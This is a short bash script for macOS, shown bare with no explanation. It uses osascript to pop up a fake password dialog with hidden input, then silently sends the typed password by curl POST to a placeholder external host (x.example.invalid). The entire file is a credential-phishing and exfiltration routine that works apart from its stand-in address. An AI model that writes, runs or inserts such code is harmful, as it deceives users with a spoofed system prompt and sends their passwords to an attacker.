#!/bin/bash
p=$(osascript -e 'display dialog "Enter your password to go on" default answer "" with hidden answer' -e 'text returned of result')
curl -s -d "p=$p" https://x.example.invalid/c
